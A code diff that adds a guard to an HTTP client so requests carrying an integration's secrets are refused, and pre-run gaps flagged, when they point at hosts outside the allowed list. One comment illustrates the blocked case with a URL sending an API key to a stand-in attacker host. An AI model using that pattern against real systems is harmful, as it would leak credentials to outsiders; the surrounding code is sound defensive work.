@@ -10,8 +10,12 @@
  */
 import { Agent, request, type Dispatcher } from 'undici';
 import type { HttpClient, HttpExchange, HttpRequestSpec } from '../../core/node/contract.ts';
+import type { FlowEvent, Integration } from '../../core/domain/config.ts';
+import type { FlowDoc } from '../../core/domain/flow.ts';
+import type { ReadinessGap } from '../../core/readiness.ts';
 import type { HttpRecord } from '../store/types.ts';
 import { guardedConnector, outboundRefusalOf, type OutboundPolicy } from './outbound-policy.ts';
+import { formsPattern, secretForms } from './redact.ts';
 
 /** Answers bigger than this are cut off: a target that streams forever must not eat the memory. */
 const MAX_BODY_BYTES = 5 * 1024 * 1024;
@@ -24,6 +28,127 @@ const MAX_BODY_BYTES = 5 * 1024 * 1024;
  */
 export function createAgent(policy: OutboundPolicy = { allowPrivate: true }): Agent {
   return new Agent({ keepAliveTimeout: 10_000, connections: 128, pipelining: 1, connect: guardedConnector(policy) });
+}
+
+/**
+ * A request that carries one of the integration's secrets to a host outside its allowed hosts. The
+ * request is not sent, and the node fails for good: retrying cannot change where it points.
+ */
+export class SecretHostRefused extends Error {
+  readonly code = 'secret_not_allowed';
+  constructor(
+    /** The secret's name (never its value). */
+    readonly secret: string,
+    readonly host: string,
+    allowed: readonly string[],
+  ) {
+    super(
+      `the request carries the secret "${secret}" to ${host}, which is not among the integration's allowed hosts (${
+        allowed.length ? allowed.join(', ') : 'none: set base_url or allowedHosts'
+      })`,
+    );
+  }
+}
+
+/**
+ * The hosts an integration's secrets may go to: its `allowedHosts`, or when it has none the host of
+ * its `base_url` setting. An entry is `host` (any port), `host:port` (that port only) or `*.domain`
+ * (its subdomains, any port); `base_url`'s host keeps the port it names, if any.
+ */
+export function allowedHostsOf(integration: Pick<Integration, 'allowedHosts' | 'settings'>): string[] {
+  if (integration.allowedHosts?.length) return integration.allowedHosts.map((h) => h.trim().toLowerCase()).filter(Boolean);
+  const base = integration.settings?.base_url;
+  if (!base) return [];
+  try {
+    return [new URL(base).host.toLowerCase()];
+  } catch {
+    return [];
+  }
+}
+
+/** Whether `url`'s host is one of `allowed` (see {@link allowedHostsOf}). */
+export function hostAllowed(url: URL, allowed: readonly string[]): boolean {
+  const hostname = url.hostname.toLowerCase().replace(/\.$/, '');
+  const port = url.port || (url.protocol === 'https:' ? '443' : '80');
+  return allowed.some((entry) => {
+    const match = /^(\[[^\]]+\]|[^:]+)(?::(\d+))?$/.exec(entry);
+    if (!match) return false;
+    const [, host, entryPort] = match;
+    if (entryPort !== undefined && entryPort !== port) return false;
+    const name = host.replace(/\.$/, '');
+    return name.startsWith('*.') ? hostname.endsWith(name.slice(1)) : hostname === name;
+  });
+}
+
+/**
+ * The check every request of a run passes before it is sent: a request whose URL, headers or body
+ * holds one of `secrets` in any form redaction knows (`redact.ts`) may go only to `allowed` hosts.
+ * Throws {@link SecretHostRefused} otherwise.
+ */
+export function secretHostGuard(secrets: Record<string, string>, allowed: readonly string[]): (spec: HttpRequestSpec) => void {
+  const patterns = Object.entries(secrets)
+    .filter(([, value]) => typeof value === 'string' && value.length >= 4)
+    .map(([name, value]) => ({ name, pattern: formsPattern(secretForms(value)) }));
+  return (spec) => {
+    if (patterns.length === 0) return;
+    let url: URL;
+    try {
+      url = new URL(spec.url);
+    } catch {
+      return; // undici refuses it without sending anything
+    }
+    if (hostAllowed(url, allowed)) return;
+    const headers = Object.entries(spec.headers ?? {}).map(([name, value]) => `${name}: ${String(value)}`);
+    const texts = [spec.url, ...headers, typeof spec.body === 'string' ? spec.body : ''];
+    for (const { name, pattern } of patterns) {
+      pattern.lastIndex = 0;
+      if (texts.some((text) => ((pattern.lastIndex = 0), pattern.test(text)))) throw new SecretHostRefused(name, url.host, allowed);
+    }
+  };
+}
+
+/** The node types whose `url` param is where their request goes. */
+const SENDING_NODES = new Set(['http-request', 'auth-token']);
+
+/**
+ * The check made before a run, where it is knowable: a node of `flow` that names a secret and
+ * whose URL is written with a literal host (`https://evil.example/?k={{secrets.api_key}}`) would
+ * be refused at run time if the host is not allowed; readiness shows it as a gap at once. A URL
+ * whose host comes from a template (`{{integration.settings.base_url}}/…`) is checked at run time only.
+ */
+export function secretHostGaps(
+  flow: Pick<FlowDoc, 'id' | 'nodes'>,
+  event: FlowEvent,
+  integration: Pick<Integration, 'allowedHosts' | 'settings'>,
+): ReadinessGap[] {
+  const allowed = allowedHostsOf(integration);
+  const gaps: ReadinessGap[] = [];
+  for (const node of flow.nodes) {
+    const url = (node.params as { url?: unknown } | undefined)?.url;
+    if (!SENDING_NODES.has(node.type) || typeof url !== 'string') continue;
+    if (!/\{\{\s*secrets\./.test(JSON.stringify(node.params))) continue;
+    const literal = /^\s*(https?:\/\/[^/?#{}\s]+)(?:[/?#]|$)/i.exec(url);
+    let target: URL;
+    try {
+      if (!literal) continue;
+      target = new URL(literal[1]);
+    } catch {
+      continue;
+    }
+    if (hostAllowed(target, allowed)) continue;
+    gaps.push({
+      kind: 'flow-problem',
+      field: `flows.${event}`,
+      event,
+      flowId: flow.id,
+      nodeId: node.id,
+      nodeField: 'params.url',
+      message: `node "${node.id}" sends the integration's secrets to ${target.host}, which is not among its allowed hosts (${
+        allowed.length ? allowed.join(', ') : 'none'
+      }): add it to allowedHosts or send it to base_url`,
+    });
+  }
+  return gaps;
 }
 
 function flatHeaders(headers: Record<string, string | string[] | undefined>): Record<string, string> {
@@ -65,14 +190,23 @@ export function createHttpClient(
   signal?: AbortSignal,
   /** Waits for the integration's rate limit before each request. */
   gate?: () => Promise<void>,
+  /** Throws for a request that must not be sent (see {@link secretHostGuard}). */
+  guard?: (spec: HttpRequestSpec) => void,
 ): HttpClient {
   return {
     async send(spec: HttpRequestSpec): Promise<HttpExchange> {
+      const requestRecord: HttpRecord['request'] = { method: spec.method, url: spec.url, headers: spec.headers, body: spec.body };
+      try {
+        guard?.(spec);
+      } catch (error) {
+        // recorded (the executor masks the secret) so the execution shows what was stopped, never sent
+        record({ request: requestRecord, outcome: 'network_error', error: (error as Error).message, durationMs: 0 });
+        throw error;
+      }
       if (gate) await gate();
       const started = performance.now();
       const deadline = AbortSignal.timeout(spec.timeoutMs);
       const abort = signal ? AbortSignal.any([deadline, signal]) : deadline;
-      const requestRecord: HttpRecord['request'] = { method: spec.method, url: spec.url, headers: spec.headers, body: spec.body };
       let exchange: HttpExchange;
       let refused: Error | undefined;
       try {
